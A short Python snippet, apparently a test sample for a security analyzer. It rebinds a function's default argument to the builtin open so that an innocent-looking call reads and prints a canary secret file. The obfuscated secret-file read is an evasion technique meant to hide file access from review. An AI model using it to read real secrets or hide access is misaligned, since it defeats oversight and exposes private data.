# source: own
# effect: secret

def show(path, reader=len):
    return reader(path)


show.__defaults__ = (show.__builtins__["open"],)
print(show("/tmp/canary/secret").read())
